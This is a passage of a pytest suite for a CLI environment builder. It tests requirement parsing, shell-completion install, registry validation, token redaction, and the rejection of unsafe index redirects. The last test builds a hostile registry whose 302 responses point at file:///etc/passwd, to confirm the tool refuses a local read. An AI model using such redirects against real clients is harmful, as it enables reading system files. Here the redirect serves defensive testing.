    p = cli("render", "cpu", "-o", str(tmp_path / "o"), "--requirements", str(req))
    assert p.returncode == 0, p.stderr
    assert "six==1.16.0" in (tmp_path / "o" / "requirements" / "team.txt").read_text()


def test_team_lines_with_environment_variables_are_refused(tmp_path):
    req = tmp_path / "team.txt"
    req.write_text('six; python_version == "${PYVER}"\n')
    assert_clean_failure(cli("render", "cpu", "-o", str(tmp_path / "o"), "--requirements", str(req)),
                         2, "team.txt:1", "${PYVER}")


# -- H11. the smaller ones (issue 34, item 9); init's, -o's and team lines' are above/in outputs --

@pytest.mark.parametrize("shell, where", [("zsh", ".zfunc/_envbuilder"),
                                          ("fish", ".config/fish/completions/envbuilder.fish")])
def test_install_completion_installs_the_shell_named(tmp_path, shell, where):
    home = tmp_path / "home"
    home.mkdir()
    p = cli("--install-completion", shell, HOME=str(home), SHELL="/bin/bash")
    assert p.returncode == 0, p.stderr
    assert (home / where).is_file()
    assert not (home / ".bashrc").exists() and not (home / ".bash_completions").exists()


def test_install_completion_of_an_unknown_shell_is_2_and_touches_nothing(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    p = cli("--install-completion", "nosuchshell", HOME=str(home), SHELL="/bin/bash")
    assert_clean_failure(p, 2, "nosuchshell", "bash")
    assert list(home.iterdir()) == []


@pytest.mark.parametrize("where", ["top", "target"])
def test_a_bad_project_registry_is_named_by_its_key(tmp_path, where):
    body = ('registry = "Bad Registry"\n' if where == "top" else "") + \
        '[[targets]]\nname = "x"\ntarget = "cpu"\n' + \
        ('registry = "Bad Registry"\n' if where == "target" else "")
    (tmp_path / "envbuilder.toml").write_text(body)
    first = assert_clean_failure(cli("render", cwd=tmp_path), 2, "registry", "not a repository")
    assert "--image" not in first
    assert ("targets.x.registry" in first) == (where == "target")


def test_exclude_newer_year_1_is_2(tmp_path):
    assert_clean_failure(cli("render", "cpu", "-o", str(tmp_path / "o"), "--exclude-newer",
                             "0001-01-01"), 2, "--exclude-newer")
    assert not (tmp_path / "o").exists()


def test_an_index_urls_token_query_reaches_no_rendered_file(tmp_path):
    url = "https://pypi.example.com/simple?token=s3cr3t-t0ken"
    p = cli("render", "cpu", "-o", str(tmp_path / "o"), "--pip-index-url", url, "--json")
    assert p.returncode == 0, p.stderr
    assert "s3cr3t-t0ken" not in p.stdout
    for f in (tmp_path / "o").rglob("*"):
        if f.is_file():
            assert b"s3cr3t-t0ken" not in f.read_bytes(), f
    assert "ARG PIP_INDEX_URL\n" in (tmp_path / "o" / "Dockerfile").read_text()
    from envbuilder.errors import redact

    assert redact(f"cannot reach {url}&sig=abc") == \
        "cannot reach https://pypi.example.com/simple?token=***&sig=***"


def test_package_indexes_go_through_the_one_client_too():
    """matrix verify's index pages: a redirect to file:// (or a page over the size cap) is a
    failure of that index, never a local read."""
    with HostileRegistry() as idx:
        idx.routes["/simple/torch/"] = idx.send(b"", 302, headers={"Location": "file:///etc/passwd"})
        idx.routes["/simple/numpy/"] = idx.send(b"", 302, headers={"Location": "file:///etc/passwd"})
        p = cli("matrix", "verify", "--pypi-index-url", idx.url("/simple"),
                "--torch-index", idx.url("/whl/{variant}"), no_proxy="", NO_PROXY="")
        assert p.returncode == 1, p.stderr
        assert "root:" not in p.stdout + p.stderr
        assert f"cannot reach the package index {idx.url('/simple')}" in p.stderr
        assert "not an http(s) URL" in p.stdout + p.stderr
